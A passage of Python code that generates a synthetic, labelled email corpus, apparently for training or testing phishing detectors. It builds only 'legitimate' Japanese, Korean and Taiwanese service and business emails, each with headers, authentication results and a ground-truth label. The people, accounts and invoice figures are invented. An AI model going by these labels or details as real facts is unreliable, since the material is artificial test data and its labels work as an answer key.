        subj("【ドコモ】ご利用料金確定のお知らせ（2025年9月ご請求分）"),
        f"Date: {rfc(sent)}",
        f"Message-ID: <{tok(stem + 'm', 22, DIGITS)}@{dom}>",
    )
    src = Src(f"mfsmax{num(stem, 1, 9)}.{dom}", "203.138.181.112", f"info@{dom}", "docomo.ne.jp", "pass",
              [("docomo.ne.jp", "dcm1", "pass")], dmarc="pass", policy="REJECT")
    body = text(plain, "plain", "base64", "utf-8")
    add(stem, "legit", "bulk",
        "Genuine NTT docomo 'monthly charge confirmed' notice, plain text, DMARC pass, only link is docomo.ne.jp/mydocomo",
        deliver(rcpt, sent + timedelta(seconds=2), src, stem, hdr, body))


def l_sharepoint_jp() -> None:
    stem = "b38-legit-sharepoint-share-jp"
    rcpt = "m-sasaki@kitamura-seiki.co.jp"
    sent = T(2025, 11, 11, 2, 15, 41, 0)
    fname = "2026年度_予算案_v3.xlsx"
    link = (f"https://kitamuraseiki.sharepoint.com/:x:/s/keiri/E{tok(stem + 'sp', 45, URLSAFE)}?e={tok(stem + 'e', 6, ALNUM)}")
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body>
<div style="font-family:'Segoe UI','Yu Gothic UI',sans-serif;max-width:600px;">
<table cellpadding="0" cellspacing="0" style="width:100%;"><tr><td style="padding:24px 36px;">
<div style="font-size:21px;color:#242424;">山本 健太 さんがファイルを共有しました</div>
<div style="margin:16px 0;padding:12px 16px;border-left:3px solid #0f6cbd;background:#f5f5f5;font-size:14px;color:#424242;">
営業部の予算案です。経費欄の確認をお願いします。</div>
<table cellpadding="0" cellspacing="0" style="border:1px solid #e0e0e0;width:100%;"><tr>
<td style="padding:12px;font-size:14px;"><img src="https://res-1.cdn.office.net/files/fabric-cdn-prod_20240610.001/assets/item-types/48/xlsx.png" width="32" height="32" alt=""> {fname}</td></tr></table>
<div style="margin-top:20px;"><a href="{link}" style="background:#0f6cbd;color:#fff;padding:8px 20px;text-decoration:none;border-radius:4px;font-size:14px;">開く</a></div>
<div style="margin-top:28px;font-size:12px;color:#616161;">このリンクは、北村精機株式会社 内のユーザーのみが使用できます。<br>Microsoft のプライバシーに関する声明</div>
</td></tr></table></div></body></html>
"""
    plain = (f"山本 健太 さんがファイルを共有しました\n\n営業部の予算案です。経費欄の確認をお願いします。\n\n{fname}\n\n"
             f"開く <{link}>\n\nこのリンクは、北村精機株式会社 内のユーザーのみが使用できます。\n")
    hdr = H(
        dkim("sharepointonline.com", "selector1", "From:Date:Subject:Message-ID:Content-Type:MIME-Version", sent, stem),
        f"From: {addr('山本 健太', 'no-reply@sharepointonline.com')}",
        f"To: {addr('佐々木 美穂', rcpt)}",
        subj(f"山本 健太 さんが「{fname}」をあなたと共有しました"),
        f"Date: {rfc(sent, 0, pad=False)}",
        f"Message-ID: <{tok(stem + 'm', 8)}-{tok(stem + 'm2', 4)}-{tok(stem + 'm3', 4)}-{tok(stem + 'm4', 4)}-{tok(stem + 'm5', 12)}@odspnotify>",
        "X-Sharing-Notification: 1",
    )
    src = Src("JPN01-OS0-obe.outbound.protection.outlook.com", "40.107.74.70", "bounce@sharepointonline.com",
              "sharepointonline.com", "pass", [("sharepointonline.com", "selector1", "pass")], dmarc="pass",
              rdns="mail-os0jpn01on2070.outbound.protection.outlook.com")
    body = alt(plain, html, f"--_=_swift_{tok(stem + 'b', 10, DIGITS)}_{tok(stem + 'b2', 32)}_=_",
               penc="quoted-printable", henc="quoted-printable")
    add(stem, "legit", "clean",
        "Genuine SharePoint sharing notification from a colleague in the same tenant (budget spreadsheet on kitamuraseiki.sharepoint.com, link limited to the organisation)",
        deliver(rcpt, sent + timedelta(seconds=2), src, stem, hdr, body, ctry="JP", lang="ja"))


JP_LEGIT = [l_vpass_usage, l_amazon_order, l_rakuten_sec_login, l_sbi_security_notice, l_yamato_schedule,
            l_etax_messagebox, l_jp_colleague_docx, l_jp_bank_change_proper, l_rakuten_newsletter, l_docomo_bill,
            l_sharepoint_jp]

# ---------------------------------------------------------------------------
# LEGITIMATE — Korea
# ---------------------------------------------------------------------------


def l_kbcard_secure_statement() -> None:
    stem = "b38-legit-kbcard-secure-statement"
    rcpt = "jiwoo.park88@naver.com"
    sent = T(2025, 3, 10, 6, 12, 30, 9)
    dom = "kbcard.com"
    cipher = base64.b64encode(blob(stem + "cipher", 3000)).decode()
    cipher_js = "\n".join(f'"{cipher[i:i + 76]}"+' for i in range(0, len(cipher), 76))
    secure = f"""<!DOCTYPE html>
<html lang="ko"><head><meta http-equiv="Content-Type" content="text/html; charset=euc-kr">
<title>KB국민카드 이용대금명세서</title></head>
<body style="font-family:'맑은 고딕',dotum,sans-serif;text-align:center;">
<div style="width:520px;margin:40px auto;border:1px solid #ccc;padding:24px;">
<p style="font-size:18px;font-weight:bold;color:#60584c;">KB국민카드 보안메일</p>
<p style="font-size:13px;">본 메일은 고객님의 개인정보 보호를 위해 암호화되어 있습니다.<br>
생년월일 6자리를 입력하신 후 [확인] 버튼을 눌러 주십시오.</p>
<form onsubmit="return dec();"><input type="password" id="pw" maxlength="6" size="10"> <input type="submit" value="확인"></form>
<p style="font-size:11px;color:#888;">보안메일이 열리지 않는 경우 KB국민카드 홈페이지(www.kbcard.com) 또는 KB Pay에서 명세서를 확인하실 수 있습니다.</p>
</div>
<script type="text/javascript">
var enc=
{cipher_js}
"";
function dec(){{var k=document.getElementById('pw').value;if(k.length!=6){{alert('생년월일 6자리를 입력하세요.');return false;}}
try{{document.open();document.write(SecuMail.decrypt(enc,k));document.close();}}catch(e){{alert('입력하신 정보가 올바르지 않습니다.');}}return false;}}
</script>
</body></html>
"""
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=euc-kr"></head>
<body>
<table width="600" cellpadding="0" cellspacing="0" style="font-family:'맑은 고딕',dotum,sans-serif;font-size:13px;color:#333;">
<tr><td style="background:#ffbc00;padding:12px 18px;font-size:17px;font-weight:bold;color:#60584c;">KB국민카드</td></tr>
<tr><td style="padding:20px 18px;line-height:1.8;">
박지우 고객님, 안녕하세요.<br>
2025년 3월 이용대금명세서를 보내드립니다.<br><br>
- 결제일 : 2025년 3월 14일<br>
- 결제금액 : 첨부된 보안메일에서 확인하실 수 있습니다.<br><br>
첨부파일을 열어 생년월일 6자리를 입력하시면 명세서를 보실 수 있습니다.<br>
KB국민카드는 이메일로 카드번호, 비밀번호, CVC 등의 정보를 요구하지 않습니다.
</td></tr>
<tr><td style="padding:12px 18px;font-size:11px;color:#888;background:#f6f6f6;">
본 메일은 발신전용입니다. 문의사항은 KB국민카드 고객센터 1588-1688 또는 <a href="https://card.kbcard.com/">www.kbcard.com</a>을 이용해 주십시오.<br>
수신거부를 원하시면 홈페이지 &gt; 마이페이지 &gt; 명세서 신청/변경에서 변경하실 수 있습니다.</td></tr>
</table></body></html>
"""
    hdr = H(
        dkim(dom, "kbcard", "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", sent, stem),
        f"From: {addr('KB국민카드', 'kbcard@' + dom, 'EUC-KR')}",
        f"To: {rcpt}",
        subj("[KB국민카드] 박지우님의 2025년 3월 이용대금명세서입니다.", "EUC-KR"),
        f"Date: {rfc(sent)}",
        f"Message-ID: <{tok(stem + 'm', 18, DIGITS)}.{tok(stem + 'm2', 8, DIGITS)}@mail.{dom}>",
        "X-Mailer: ThunderMail",
    )
    src = Src(f"mail{num(stem, 1, 8)}.{dom}", "211.181.244.110", f"kbcard@{dom}", dom, "pass", [(dom, "kbcard", "pass")],
              dmarc="pass", policy="REJECT")
    body = mixed(f"----=_NextPart_{tok(stem + 'b', 20, DIGITS)}",
                 text(html, "html", "base64", "euc-kr"),
                 att("text/html", "KB국민카드_이용대금명세서_202503.html", secure.encode("euc-kr"), "EUC-KR",
                     body_charset="euc-kr"))
    add(stem, "legit", "bulk",
        "Genuine KB Kookmin Card monthly statement: Korean 'secure mail' HTML attachment that decrypts locally after the birth date is typed (as Korean card issuers really send), EUC-KR, DMARC pass",
        deliver(rcpt, sent + timedelta(seconds=3), src, stem, hdr, body))


def l_coupang_shipping() -> None:
    stem = "b38-legit-coupang-shipping"
    rcpt = "seoyeon_lee@hanmail.net"
    sent = T(2025, 2, 14, 7, 41, 55, 9)
    dom = "coupang.com"
    oid = tok(stem + "o", 14, DIGITS)
    link = f"https://mc.coupang.com/ssr/desktop/order/{oid}?src=email&spec=shipping&lptag=EML_SHP"
    html = f"""<!DOCTYPE html><html><head><meta charset="utf-8"></head>
<body style="margin:0;background:#f5f5f5;">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#fff;font-family:'Apple SD Gothic Neo','Malgun Gothic',sans-serif;font-size:14px;color:#111;">
<tr><td style="padding:20px 24px;"><img src="https://image7.coupangcdn.com/image/coupang/common/logo_coupang_w350.png" width="120" alt="coupang"></td></tr>
<tr><td style="padding:0 24px 10px;font-size:20px;font-weight:bold;">상품이 출발했어요</td></tr>
<tr><td style="padding:0 24px 20px;line-height:1.7;">이서연님, 주문하신 상품의 배송이 시작되었습니다.<br>
<b style="color:#0073e9;">로켓배송</b> · 2/14(금) 도착 예정</td></tr>
<tr><td style="padding:0 24px;"><table width="100%" style="border-top:1px solid #eee;border-bottom:1px solid #eee;">
<tr><td style="padding:12px 0;">곰곰 무항생제 신선한 대란 30구</td><td align="right">1개</td></tr>
<tr><td style="padding:12px 0;">탐사 수분 크림 대용량 500ml</td><td align="right">1개</td></tr>
</table></td></tr>
<tr><td style="padding:20px 24px;"><a href="{link}" style="display:block;text-align:center;background:#346aff;color:#fff;padding:12px;text-decoration:none;border-radius:4px;">배송 조회</a></td></tr>
<tr><td style="padding:14px 24px;font-size:11px;color:#888;background:#fafafa;">본 메일은 발신전용입니다. 문의는 쿠팡 고객센터를 이용해 주세요.<br>
쿠팡(주) 서울특별시 송파구 송파대로 570 | 사업자등록번호 120-88-00767</td></tr>
</table>
<img src="https://mkt.coupang.com/e/o?m={tok(stem + 'px', 20, LOWER)}" width="1" height="1" alt="">
</body></html>
"""
    hdr = H(
        dkim(dom, "cp2023", "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", sent, stem),
        dkim("amazonses.com", "1r3ttlqi4nruvuflnb7hbfkgtjqzkhft", "From:To:Subject:Date:Message-ID:Feedback-ID", sent,
             stem + "ses", c="simple/simple"),
        f"From: {addr('쿠팡', 'no-reply@' + dom)}",
        f"To: {rcpt}",
        subj("[쿠팡] 주문하신 상품의 배송이 시작되었습니다"),
        f"Date: {rfc(sent, 0)}",
        f"Message-ID: <01080195{tok(stem + 'm', 8)}-{tok(stem + 'm2', 8)}-{tok(stem + 'm3', 4)}-{tok(stem + 'm4', 4)}-{tok(stem + 'm5', 4)}-{tok(stem + 'm6', 12)}-000000@ap-northeast-2.amazonses.com>",
        f"Feedback-ID: ::1.ap-northeast-2.{tok(stem + 'fb', 43, B64)}=:AmazonSES",
    )
    src = Src("e240-3.smtp-out.ap-northeast-2.amazonses.com", "23.251.240.3",
              f"01080195{tok(stem + 'm', 8)}-{tok(stem + 'rp', 8)}-000000@ap-northeast-2.amazonses.com", dom, "pass",
              [(dom, "cp2023", "pass"), ("amazonses.com", "1r3ttlqi4nruvuflnb7hbfkgtjqzkhft", "pass")], dmarc="pass",
              policy="REJECT")
    body = html_only(html, enc="quoted-printable")
    add(stem, "legit", "bulk",
        "Genuine Coupang 'your order has shipped' notification via SES Seoul, DKIM coupang.com, links to mc.coupang.com order page and an open pixel",
        deliver(rcpt, sent + timedelta(seconds=2), src, stem, hdr, body))


def l_naver_login_genuine() -> None:
    stem = "b38-legit-naver-login-alert"
    rcpt = "mh.choi@naver.com"
    sent = T(2025, 9, 20, 8, 52, 3, 9)
    dom = "navercorp.com"
    html = f"""<html><head><meta charset="UTF-8"></head>
<body style="margin:0;">
<div style="width:600px;margin:0 auto;font-family:'Apple SD Gothic Neo','Nanum Gothic',sans-serif;font-size:14px;color:#222;">
<div style="padding:20px 0;"><img src="https://static.nid.naver.com/images/email/logo_naver.png" width="80" alt="NAVER"></div>
<p style="font-size:18px;font-weight:bold;">새로운 환경에서 로그인 되었습니다.</p>
<p>최민혁님의 네이버 아이디(mh.c****)가 새로운 환경에서 로그인 되었습니다.<br>본인이 로그인한 경우 이 메일은 무시하셔도 됩니다.</p>
<table style="width:100%;background:#f8f8f8;" cellpadding="8">
<tr><td style="width:100px;color:#888;">일시</td><td>2025.09.20 08:51</td></tr>
<tr><td style="color:#888;">지역</td><td>대한민국 (서울특별시)</td></tr>
<tr><td style="color:#888;">기기</td><td>Mac / Safari</td></tr>
</table>
<p>본인이 아닌 경우, 네이버 앱 또는 <a href="https://nid.naver.com/user2/help/myInfoV2?m=viewSecurity&lang=ko_KR">내정보 &gt; 보안설정</a>에서 로그인 기록을 확인하고 비밀번호를 변경해 주세요.</p>
<p style="font-size:12px;color:#999;">본 메일은 발신전용입니다. 이 메일은 로그인 알림을 설정한 회원님께 발송되었습니다.<br>Copyright © NAVER Corp. All Rights Reserved.</p>
</div></body></html>
"""
    hdr = H(
        dkim(dom, "s20171208", "from:to:subject:date:message-id:mime-version:content-type", sent, stem),
        f"From: {addr('네이버', 'nid_noreply@' + dom)}",
        f"To: {rcpt}",
        subj("[네이버] 새로운 환경에서 로그인 되었습니다."),
        f"Date: {rfc(sent)}",
        f"Message-ID: <{tok(stem + 'm', 24, URLSAFE)}@cvsmtppost{num(stem, 10, 99)}.nm.naver.com>",
    )
    src = Src(f"cvsmtppost{num(stem, 10, 99)}.nm.naver.com", "125.209.224.205", f"nid_noreply@{dom}", dom, "pass",
              [(dom, "s20171208", "pass")], dmarc="pass", policy="REJECT")
    body = html_only(html, enc="base64")
    add(stem, "legit", "bulk",
        "Genuine Naver 'login from a new environment' alert the user expected (Seoul, Mac), from navercorp.com through Naver's own relay, DMARC pass, links to nid.naver.com",
        deliver(rcpt, sent + timedelta(seconds=1), src, stem, hdr, body))


def l_kr_colleague_docx() -> None:
    stem = "b38-legit-kr-colleague-plan"
    rcpt = "js.kang@hanbit-precision.co.kr"
    sent = T(2025, 3, 28, 15, 26, 48, 9)
    dom = "hanbit-precision.co.kr"
    plain = """지수 씨, 안녕하세요.
생산관리팀 윤동현입니다.

2분기 생산계획(안) 공유드립니다.
4월 셋째 주부터 CNC 2라인 증설분이 반영되어 있고,
원자재(SUS304 환봉) 소요량은 시트 3쪽에 정리해 두었습니다.

대성금속 쪽 4월 발주 물량은 이 기준으로 잡아주시면 될 것 같습니다.
월요일 오전 회의 전에 한번 검토 부탁드려요.

감사합니다.
윤동현 드림

--
(주)한빛정밀 생산관리팀 | 윤동현 과장
T. 031-8041-2276 | M. 010-4417-5823
"""
    html = "<div dir=\"ltr\">" + "<br>".join(plain.rstrip("\n").split("\n")) + "</div>\n"
    doc = files.docx(["2025 Q2 Production Plan (draft)", "CNC line 2 expansion from week 3 of April",
                      "SUS304 round bar requirement: see table on page 3"], "2025년 2분기 생산계획(안)", "윤동현")
    mid = gmail_mid(stem)
    hdr = gmail_sender(stem, sent, addr("윤동현", f"dh.yoon@{dom}"), addr("강지수", rcpt),
                       subj("2분기 생산계획(안) 공유드립니다"), mid, dkim_d=dom)
    src = Src("mail-sor-f41.google.com", "209.85.220.41", f"dh.yoon@{dom}", dom, "pass", [(dom, "google", "pass")],
              dmarc="pass", policy="QUARANTINE")
    body = mixed(f"000000000000{tok(stem + 'mx', 16)}",
                 alt(plain, html, f"000000000000{tok(stem + 'al', 16)}"),
                 att("application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                     "2025년_2분기_생산계획(안).docx", doc))
    add(stem, "legit", "clean",
        "Internal Google Workspace mail between colleagues at a Korean manufacturer with the Q2 production-plan .docx",
        deliver(rcpt, sent + timedelta(seconds=1), src, stem, hdr, body, internal_google=True))


def l_smartbill_tax_invoice() -> None:
    stem = "b38-legit-smartbill-tax-invoice"
    rcpt = "finance@hanbit-precision.co.kr"
    sent = T(2025, 4, 7, 14, 5, 20, 9)
    dom = "smartbill.co.kr"
    view = f"https://www.smartbill.co.kr/XMail/XMailView.aspx?key={tok(stem + 'k', 40, ALNUM)}"
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=euc-kr"></head>
<body>
<table width="640" cellpadding="0" cellspacing="0" style="font-family:'맑은 고딕',dotum,sans-serif;font-size:12px;color:#333;border:1px solid #d0d0d0;">
<tr><td style="background:#2a5caa;color:#fff;padding:12px 16px;font-size:15px;font-weight:bold;">SmartBill 전자세금계산서</td></tr>
<tr><td style="padding:18px 16px;line-height:1.8;">
(주)한빛정밀 담당자님,<br>
<b>대성금속(주)</b>에서 전자세금계산서를 발행하였습니다.<br><br>
<table border="1" cellpadding="5" style="border-collapse:collapse;font-size:12px;">
<tr><td style="background:#eef2f9;">작성일자</td><td>2025-04-07</td><td style="background:#eef2f9;">승인번호</td><td>20250407-4100{tok(stem + 'n', 4, DIGITS)}-{tok(stem + 'n2', 8, DIGITS)}</td></tr>
<tr><td style="background:#eef2f9;">공급자</td><td>대성금속(주) 134-81-27715</td><td style="background:#eef2f9;">공급받는자</td><td>(주)한빛정밀 124-86-40362</td></tr>
<tr><td style="background:#eef2f9;">공급가액</td><td>44,250,000</td><td style="background:#eef2f9;">세액</td><td>4,425,000</td></tr>
<tr><td style="background:#eef2f9;">합계금액</td><td colspan="3"><b>48,675,000원</b></td></tr>
</table><br>
<a href="{view}" style="background:#2a5caa;color:#fff;padding:8px 24px;text-decoration:none;">세금계산서 보기</a><br><br>
본 전자세금계산서는 국세청에 전송되며, 홈택스(www.hometax.go.kr)에서도 조회하실 수 있습니다.
</td></tr>
<tr><td style="padding:10px 16px;font-size:11px;color:#888;background:#f5f5f5;">본 메일은 발신전용입니다. SmartBill 고객센터 1588-0560 | (주)비즈니스온커뮤니케이션</td></tr>
</table></body></html>
"""
    hdr = H(
        dkim(dom, "sb", "From:To:Subject:Date:Message-ID", sent, stem),
        f"From: {addr('SmartBill', 'noreply@' + dom)}",
        f"To: {rcpt}",
        subj("[전자세금계산서] 대성금속(주)에서 발행한 전자세금계산서가 도착했습니다.", "EUC-KR"),
        f"Date: {rfc(sent)}",
        f"Message-ID: <{tok(stem + 'm', 20, DIGITS)}@xmail.{dom}>",
    )
    src = Src(f"xmail{num(stem, 1, 6)}.{dom}", "211.43.204.87", f"noreply@{dom}", dom, "pass", [(dom, "sb", "pass")],
              dmarc="pass", policy="NONE")
    body = html_only(html, charset="euc-kr", enc="base64")
    add(stem, "legit", "bulk",
        "Genuine SmartBill e-tax-invoice notice (supplier's March invoice, 48,675,000 won) to a Korean company, EUC-KR, DMARC pass, link to smartbill.co.kr viewer",
        deliver(rcpt, sent + timedelta(seconds=2), src, stem, hdr, body))


KR_LEGIT = [l_kbcard_secure_statement, l_coupang_shipping, l_naver_login_genuine, l_kr_colleague_docx,
            l_smartbill_tax_invoice]

# ---------------------------------------------------------------------------
# LEGITIMATE — Taiwan and Hong Kong
# ---------------------------------------------------------------------------


def l_ctbc_estatement() -> None:
    stem = "b38-legit-ctbc-card-estatement"
    rcpt = "chen.yating0913@gmail.com"
    sent = T(2025, 2, 20, 9, 30, 11, 8)
    dom = "ctbcbank.com"
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=big5"></head>
<body>
<table width="620" align="center" cellpadding="0" cellspacing="0" style="font-family:'微軟正黑體','新細明體',sans-serif;font-size:14px;color:#333;">
<tr><td style="background:#00856a;color:#fff;padding:12px 20px;font-size:17px;font-weight:bold;">中國信託 信用卡電子帳單</td></tr>
<tr><td style="padding:22px 20px;line-height:1.9;">
陳雅婷 您好：<br>
感謝您使用中國信託信用卡，您114年02月的信用卡帳單已產生，摘要如下：<br><br>
<table border="1" cellpadding="6" style="border-collapse:collapse;">
<tr><td style="background:#eef7f4;">本期應繳總額</td><td>NT$ 12,846</td></tr>
<tr><td style="background:#eef7f4;">本期最低應繳金額</td><td>NT$ 1,000</td></tr>
<tr><td style="background:#eef7f4;">繳款截止日</td><td>114/03/10</td></tr>
</table><br>
完整帳單明細請開啟附件（密碼為您的身分證字號，英文字母請大寫），或登入中國信託行動銀行 Home Bank APP 查詢。<br>
如已設定自動扣繳，將於繳款截止日自您的約定帳戶扣款。<br><br>
<span style="color:#c00;">提醒您：中國信託不會以電子郵件或簡訊要求您點擊連結輸入網路銀行帳號、密碼或信用卡資料。</span>
</td></tr>
<tr><td style="padding:12px 20px;font-size:12px;color:#888;background:#f2f2f2;">
本郵件由系統自動發送，請勿直接回覆。客服專線：(02)2745-8080<br>
<a href="https://www.ctbcbank.com/twrbo/zh_tw/index.html">www.ctbcbank.com</a></td></tr>
</table></body></html>
"""
    stmt = files.pdf(["CTBC Bank Credit Card Statement 2025/02", "Card holder: CHEN YA-TING",
                      "Total amount due: NT$ 12,846", "Minimum payment: NT$ 1,000", "Payment due date: 2025/03/10"],
                     title="CTBC e-Statement 202502")
    hdr = H(
        dkim(dom, "ctbc1", "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", sent, stem),
        f"From: {addr('中國信託', 'ebill@' + dom, 'big5')}",
        f"To: {rcpt}",
        subj("中國信託信用卡114年02月電子帳單", "big5"),
        f"Date: {rfc(sent)}",
        f"Message-ID: <{tok(stem + 'm', 16, DIGITS)}.{tok(stem + 'm2', 6, DIGITS)}.JavaMail.ebill@{dom}>",
    )
    src = Src(f"ebill{num(stem, 1, 6)}.{dom}", "210.65.47.178", f"ebill@{dom}", dom, "pass", [(dom, "ctbc1", "pass")],
              dmarc="pass", policy="REJECT")
    body = mixed(f"----=_Part_{tok(stem + 'b', 6, DIGITS)}_{tok(stem + 'b2', 9, DIGITS)}.{tok(stem + 'b3', 13, DIGITS)}",
                 text(html, "html", "base64", "big5"),
                 attachment("application/pdf", "CTBC_202502.pdf", stmt))
    add(stem, "legit", "bulk",
        "Genuine CTBC credit-card e-statement notice in Big5 with the statement PDF, DMARC pass, warns the bank never asks for login by mail",
        deliver(rcpt, sent + timedelta(seconds=2), src, stem, hdr, body))


def l_einvoice_prize_genuine() -> None:
    stem = "b38-legit-einvoice-prize-notice"
    rcpt = "lin.chihwei.tw@gmail.com"
    sent = T(2025, 1, 26, 8, 0, 42, 8)
    dom = "einvoice.nat.gov.tw"
    plain = f"""親愛的會員 您好：

恭喜您！您的手機條碼載具 /Q7M{tok(stem + 'c', 4, UHEX)} 所歸戶之雲端發票，於113年11-12月期統一發票開獎中獎。

　中獎發票號碼：HT{tok(stem + 'n', 8, DIGITS)}
　中獎獎別：六獎
　中獎金額：新臺幣200元

您已設定領獎帳戶，獎金將於114年2月6日起（扣除相關稅款後）自動匯入您設定之金融機構帳戶，無須另行辦理領獎。

如需查詢中獎明細，請自行開啟瀏覽器登入財政部電子發票整合服務平台（https://www.einvoice.nat.gov.tw/）。

※本平台不會以電子郵件或簡訊要求您輸入信用卡號、金融卡密碼或網銀帳號密碼，請小心詐騙。
※本郵件為系統自動發送，請勿直接回覆。

財政部電子發票整合服務平台
"""
    hdr = H(
        dkim(dom, "einv", "From:To:Subject:Date:Message-ID", sent, stem),
        f"From: {addr('財政部電子發票整合服務平台', 'einvoice@' + dom)}",
        f"To: {rcpt}",
        subj("財政部電子發票整合服務平台－雲端發票中獎通知"),
        f"Date: {rfc(sent)}",
        f"Message-ID: <{tok(stem + 'm', 14, DIGITS)}.{tok(stem + 'm2', 10, DIGITS)}@{dom}>",
    )
    src = Src(f"mail{num(stem, 1, 4)}.{dom}", "163.29.39.131", f"einvoice@{dom}", dom, "pass", [(dom, "einv", "pass")],
              dmarc="pass", policy="QUARANTINE")
    body = text(plain, "plain", "base64", "utf-8")
    add(stem, "legit", "bulk",
        "Genuine Taiwan e-invoice platform prize notice (NT$200, auto-deposited to the registered account), no link other than the platform home page, DMARC pass",
        deliver(rcpt, sent + timedelta(seconds=2), src, stem, hdr, body))


def l_tw_supplier_quote() -> None:
    stem = "b38-legit-tw-supplier-quotation"
    rcpt = "amy.huang@hsinyuan-tech.com.tw"
    sent = T(2025, 8, 5, 16, 44, 9, 8)
    dom = "hongda-precision.com.tw"
    plain = """黃小姐 您好：

感謝貴公司詢價，附件為 8/1 詢價單（RFQ-HY-250801）之報價單，
內容摘要如下：

  1. 鋁合金外殼 HD-AL6061-220  單價 NT$186／pcs（MOQ 2,000 pcs）
  2. 不鏽鋼支架 HD-SUS-045     單價 NT$42／pcs（MOQ 5,000 pcs）

交期：確認訂單後約 25 個工作天
報價有效期限：2025/09/05
付款條件：月結60天，匯款至本公司原約定帳戶

如有任何問題，歡迎隨時與我聯絡，謝謝。

陳志明 Jimmy Chen
宏達精密工業股份有限公司　業務部
Tel: 04-2359-1868 ext.212
"""
    html = ("<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=big5\"></head><body lang=\"ZH-TW\">"
            "<div style=\"font-family:新細明體;font-size:12pt;\">" + plain.replace("\n", "<br>\n") + "</div></body></html>\n")
    quote = files.pdf(["Hongda Precision Industry Co., Ltd.", "QUOTATION  Q-250805-017", "To: Hsinyuan Technology Co., Ltd. (RFQ-HY-250801)",
                       "1. Aluminium housing HD-AL6061-220  NT$186/pcs  MOQ 2,000",
                       "2. Stainless bracket HD-SUS-045     NT$42/pcs   MOQ 5,000",
                       "Lead time: 25 working days  Valid until: 2025/09/05", "Payment: 60 days after month end"],
                      title="Quotation Q-250805-017")
    hdr = H(
        dkim(dom, "default", "from:to:subject:date:message-id:mime-version:content-type", sent, stem),
        f"From: {addr('陳志明', 'jimmy.chen@' + dom, 'big5')}",
        f"To: {addr('黃怡君', rcpt, 'big5')}",
        subj("RE: 詢價單 RFQ-HY-250801 報價", "big5"),
        f"Date: {rfc(sent)}",
        f"Message-ID: {desktop_mid(stem, dom)}",
        f"In-Reply-To: {outlook_mid(stem + 'ir', 'tw')}",
        f"References: {outlook_mid(stem + 'ir', 'tw')}",
        "X-Mailer: Microsoft Outlook 16.0",
        "Thread-Index: " + base64.b64encode(b"\x01" + blob(stem + "ti", 21)).decode(),
        "Content-Language: zh-tw",
    )
    src = Src(f"mail.{dom}", "211.20.171.98", f"jimmy.chen@{dom}", dom, "pass", [(dom, "default", "pass")],
              dmarc="pass", policy="NONE", rdns="211-20-171-98.hinet-ip.hinet.net")
    body = mixed(f"----=_NextPart_000_{tok(stem + 'b', 4, UHEX)}_01DC05{tok(stem + 'b2', 2, UHEX)}.{tok(stem + 'b3', 8, UHEX)}",
                 alt(plain, html, f"----=_NextPart_001_{tok(stem + 'b4', 4, UHEX)}_01DC05{tok(stem + 'b2', 2, UHEX)}.{tok(stem + 'b3', 8, UHEX)}",
                     charset="big5", penc="base64", henc="base64"),
                 att("application/pdf", "報價單_Q-250805-017.pdf", quote, "big5"))
    add(stem, "legit", "clean",
        "Genuine Taiwanese supplier quotation reply in Big5 from Outlook with the quotation PDF, payment to the 'original agreed account'",
        deliver(rcpt, sent + timedelta(seconds=3), src, stem, hdr, body, ctry="TW", lang="zh_cht"))


def l_shopee_shipped() -> None:
    stem = "b38-legit-shopee-order-shipped"
    rcpt = "chen.yating0913@gmail.com"
    sent = T(2025, 6, 15, 13, 20, 5, 8)
    dom = "mail.shopee.tw"
    oid = "250614" + tok(stem + "o", 8, "ABCDEFGHJKLMNPQRSTUVWXYZ23456789")

    def trk(dest: str, n: int) -> str:
        return f"https://link.shopee.tw/c/{tok(stem + 't' + str(n), 22, URLSAFE)}?u={dest}&utm_source=email&utm_medium=trx&utm_campaign=shipped"
    html = f"""<!DOCTYPE html><html><head><meta charset="utf-8"></head>
<body style="margin:0;background:#f5f5f5;">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#fff;font-family:'Microsoft JhengHei',Arial,sans-serif;font-size:14px;color:#222;">
<tr><td style="background:#ee4d2d;padding:14px 20px;color:#fff;font-size:20px;font-weight:bold;">Shopee 蝦皮購物</td></tr>
<tr><td style="padding:20px;line-height:1.8;">
嗨 陳雅婷，<br>您的訂單 <b>#{oid}</b> 已出貨！<br>
物流：7-ELEVEN 店到店 ｜ 預計 6/17 抵達取件門市<br><br>
<table width="100%" style="border-top:1px solid #eee;"><tr><td style="padding:10px 0;">Anker 633 磁吸行動電源 10000mAh</td><td align="right">x1</td><td align="right">$1,299</td></tr></table>
<p><a href="{trk('https%3A%2F%2Fshopee.tw%2Fuser%2Fpurchase%2Forder%2F' + oid, 1)}" style="background:#ee4d2d;color:#fff;padding:10px 26px;text-decoration:none;border-radius:2px;">查看訂單</a></p>
</td></tr>
<tr><td style="padding:14px 20px;font-size:11px;color:#888;background:#fafafa;">
蝦皮購物不會要求您透過連結輸入銀行帳戶或提供驗證碼。<br>
<a href="{trk('https%3A%2F%2Fhelp.shopee.tw%2F', 2)}">幫助中心</a> ｜ 新加坡商蝦皮娛樂電商有限公司台灣分公司</td></tr>
</table>
<img src="https://link.shopee.tw/o/{tok(stem + 'px', 24, URLSAFE)}.gif" width="1" height="1" alt="">
</body></html>
"""
    hdr = H(
        dkim(dom, "s1", "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", sent, stem),
        f"From: {addr('蝦皮購物', 'info@' + dom)}",
        f"To: {rcpt}",
        subj(f"您的訂單 #{oid} 已出貨"),
        f"Date: {rfc(sent, 0)}",
        f"Message-ID: <{tok(stem + 'm', 22, URLSAFE)}@{dom}>",
    )
    src = Src(f"o{num(stem, 1, 9)}.{dom}", "159.183.64.21", f"bounces+{num(stem, 100000, 999999)}@{dom}", dom, "pass",
              [(dom, "s1", "pass")], dmarc="pass", policy="REJECT")
    body = html_only(html, enc="quoted-printable")
    add(stem, "legit", "bulk",
        "Genuine Shopee Taiwan 'order shipped' notification with link.shopee.tw click-tracking and open pixel, DMARC pass",
        deliver(rcpt, sent + timedelta(seconds=2), src, stem, hdr, body))


def l_ms_security_code() -> None:
